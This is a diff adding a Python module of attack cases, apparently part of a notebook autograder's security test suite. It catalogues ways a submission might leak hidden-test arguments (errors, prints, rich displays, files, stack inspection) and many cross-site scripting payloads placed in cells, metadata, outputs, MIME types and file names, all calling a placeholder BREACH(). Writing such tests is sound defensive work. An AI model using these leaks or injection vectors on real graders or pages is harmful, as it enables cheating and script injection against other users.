@@ -1,1 +1,183 @@
-ATTACKS = ()
+"""Learning secrets from the feedback, and putting script into the pages that others open."""
+
+from nbformat import NotebookNode, v4
+
+from autograder.source import grade_id
+
+from ..attack import Attack
+
+KIND = "leak"
+SCRIPT = "<script>BREACH()</script>"
+IMAGE = '<img src=x onerror="BREACH()">'
+
+
+def of(name: str, about: str, code: str = "", **more: object) -> Attack:
+    return Attack(name, KIND, about, code, **more)  # type: ignore[arg-type]
+
+
+def answer_with_script(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if grade_id(cell) == "C-why":
+            cell.source = (
+                f"{SCRIPT} {IMAGE} [click](javascript:BREACH()) <iframe srcdoc='BREACH'></iframe>\n\n"
+                '<svg onload="BREACH()"/><a href="java&#10;script:BREACH()">x</a> $\\href{javascript:BREACH()}{x}$\n\n'
+                '<details open ontoggle="BREACH()">x</details><form action="http://breach"><button>y</button></form>'
+            )
+
+
+def attachment(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if grade_id(cell) == "C-why":
+            cell.source = "![x](attachment:x.svg)"
+            cell["attachments"] = {"x.svg": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="BREACH()"/>'}}
+
+
+def metadata_with_script(notebook: NotebookNode) -> None:
+    notebook.metadata["title"] = f"</title>{SCRIPT}"
+    notebook.metadata["authors"] = [{"name": SCRIPT}]
+    notebook.metadata["language_info"] = {"name": f'python"{IMAGE}', "pygments_lexer": SCRIPT, "codemirror_mode": SCRIPT}
+    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{SCRIPT}"}}}
+    for cell in notebook.cells:
+        cell.metadata["tags"] = [f'x" onclick="BREACH()" y="{SCRIPT}']
+        cell["id"] = cell["id"][:40]
+
+
+def cell_with_script(notebook: NotebookNode) -> None:
+    notebook.cells.append(v4.new_markdown_cell(f"{SCRIPT}{IMAGE}<style>@import 'http://breach'; body {{}} BREACH() </style>", id="m1"))
+    notebook.cells.append(v4.new_raw_cell(f"{SCRIPT}{IMAGE}", id="r1", metadata={"format": "text/html"}))
+    notebook.cells.append(v4.new_code_cell(f"x = '''</code></pre>{SCRIPT}{IMAGE}'''", id="k1"))
+
+
+def comment_with_script(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if grade_id(cell) == "form":
+            cell.source = f"group = [{{'name': {SCRIPT!r}, 'id': {IMAGE!r}, 'did': {SCRIPT!r}}}]\nready_to_present = [{IMAGE!r}]"
+
+
+SHOW = '''
+from IPython.display import display, HTML, Javascript, SVG, Markdown
+S, I = "<script>BREACH()</script>", '<img src=x onerror="BREACH()">'
+'''
+
+ATTACKS = (
+    of("arguments-raised", "The arguments of hidden tests are raised as an error's text.", """
+def double(x): raise ValueError(f"called with {x}, twice that is {2 * x}")
+def square(x): raise ValueError(f"called with {x}")
+"""),
+    of("arguments-disguised", "The same, with the numbers reversed, in hex and spelled out.", """
+def told(x): return f"{str(x)[::-1]} {x:x} {x:b} {x:,} {' '.join(str(x))}" if isinstance(x, int) else str(x)[::-1]
+def double(x): raise KeyError(told(x))
+def square(x):
+    print(told(int(x[0])))
+    raise OSError(told(int(x[0])))
+"""),
+    of("arguments-printed", "The arguments of hidden tests are printed, to all streams.", """
+import warnings
+def double(x):
+    print("called with", x)
+    print("called with", x, file=sys.stderr)
+    os.write(1, f"called with {x}".encode())
+    warnings.warn(f"called with {x}")
+    return 2 * x if x < 100 else 7
+"""),
+    of("arguments-displayed", "The arguments of hidden tests are displayed as rich output.", """
+from IPython.display import display, HTML, Markdown
+def double(x):
+    display(HTML(f"<b>{x}</b>"), Markdown(f"{x}"), {"x": x})
+    display({"application/vnd.course.check+json": {"check": "double", "passed": False, "mistake": "x", "message": f"{x}"},
+             "text/plain": f"{x}"}, raw=True)
+    return 2 * x if x < 100 else 7
+"""),
+    of("arguments-returned", "The arguments of hidden tests are given back, so that the failing assert shows them.", """
+class Told:
+    def __init__(self, x): self.x = x
+    def __repr__(self): return f"called with {self.x}"
+    def __eq__(self, other): raise ValueError(f"compared with {other}, called with {self.x}")
+def double(x): return 2 * x if x < 100 else Told(x)
+def square(x): return x * x if x[0] < 100 else x + 1
+"""),
+    of("arguments-remembered", "The arguments of hidden tests are kept, and printed by a later cell.", """
+seen = []
+def double(x):
+    seen.append(x)
+    return 7
+def square(x):
+    seen.append(x)
+    return x
+""", last="print('called with', seen)\n"),
+    of("arguments-in-a-file", "The arguments of hidden tests are written to a file that a later cell prints.", """
+def double(x):
+    open("seen.txt", "a").write(f"{x} ")
+    return 7
+""", last="print(open('seen.txt').read())\n"),
+    of("arguments-by-picture", "The arguments of hidden tests are drawn into a figure.", """
+def double(x):
+    from IPython.display import SVG, display
+    display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><text>{x}</text></svg>'))
+    return 2 * x if x < 100 else 7
+"""),
+    of("expected-from-the-error", "A result of the wrong shape makes the check tell what it expected.", """
+def double(x): return [x, 2 * x] if x > 100 else 2 * x
+def square(x): return float(x[0]) if x[0] > 100 else x * x
+"""),
+    of("test-source-printed", "The source of the running test is printed from the frames that call.", """
+import inspect
+def double(x):
+    for entry in inspect.stack(context=9):
+        print(entry.code_context)
+    print(get_ipython().user_ns.get("In"))
+    return 2 * x if x < 100 else 7
+"""),
+    of("script-displayed", "HTML with script is displayed.", SHOW + """
+display(HTML(S + I + '<svg/onload=BREACH()>'), Javascript("BREACH()"), Markdown(S + I))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="BREACH()"><script>BREACH()</script><a href="javascript:BREACH()">x</a></svg>'))
+"""),
+    of("script-in-a-test", "HTML with script is displayed while a test runs.", SHOW + """
+def double(x):
+    display(HTML(S + I))
+    display({"text/html": S + I, "text/markdown": I, "image/svg+xml": '<svg onload="BREACH()"></svg>', "text/latex": S,
+             "application/javascript": "BREACH()"}, raw=True)
+    return 7
+def square(x): raise ValueError(S + I)
+"""),
+    of("script-in-an-error", "Script stands in an error's name, text and traceback.", SHOW + """
+Bad = type(S, (Exception,), {"__str__": lambda self: S + I, "__repr__": lambda self: S})
+def double(x): raise Bad(S + I)
+def steps(n): raise type("</pre>" + I, (ValueError,), {})("\\x1b]8;;javascript:BREACH()\\x07click\\x1b]8;;\\x07" + S)
+raise Bad(I)
+"""),
+    of("script-in-a-value", "Script stands in the value that a check repeats.", SHOW + """
+class Loud(str):
+    def __repr__(self): return S + I
+def double(x): return Loud(S + I)
+def square(x): return S + I
+class Softmax:
+    def forward(self, x): raise ValueError(S + I)
+Linear = type(S, (), {})
+"""),
+    of("script-in-a-report", "A forged check report carries script in its message and picture.", SHOW + """
+def double(x):
+    report = {"check": S, "passed": False, "mistake": S, "message": S + I, "hint": I, "explanation": I, "html": I,
+              "picture": '<svg onload="BREACH()"></svg>', "image": I, "url": "javascript:BREACH()"}
+    display({"text/plain": S, "text/html": S + I, "image/svg+xml": '<svg onload="BREACH()"/>',
+             "application/vnd.course.check+json": report}, raw=True)
+    assert False, S + I
+"""),
+    of("script-by-mime", "Outputs of odd MIME types, with script where a picture's bytes should be.", SHOW + """
+for kind in ("image/png", "image/jpeg", "image/gif", "image/svg+xml", "application/pdf", "text/html+ruby", "model/obj",
+             "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "video/mp4", "text/vnd.mermaid",
+             "application/geo+json", "application/vnd.bokehjs_exec.v0+json", '"><script>BREACH()</script>'):
+    display({kind: '"' + I + S, "text/plain": S}, raw=True, metadata={kind: {"width": '1"' + I, "height": '" onload="BREACH()', "alt": '"' + I}})
+"""),
+    of("script-in-streams", "Escape sequences and script are printed.", SHOW + """
+print("\\x1b[31m" + S + "\\x1b[0m\\x1b]8;;javascript:BREACH()\\x07x" + I)
+print("\\x1b[38;2;1\\"onload=BREACH();1;1m", I, file=sys.stderr)
+"""),
+    of("script-in-an-answer", "The text answer holds script in all the ways of Markdown and HTML.", change=answer_with_script),
+    of("script-in-an-attachment", "An SVG with script is attached to the text answer.", change=attachment),
+    of("script-in-metadata", "Title, tags, language and widgets of the notebook hold script.", change=metadata_with_script),
+    of("script-in-own-cells", "Added cells of every type hold script.", change=cell_with_script),
+    of("script-in-the-form", "The form's names hold script, which reports repeat.", change=comment_with_script),
+    of("script-in-file-names", "Files whose names hold script are handed in.",
+       files={'<img src=x onerror="BREACH()">.csv': "1\n", "<script>BREACH()<\u2215script>.py": "1\n"}),
+)  # fmt: skip
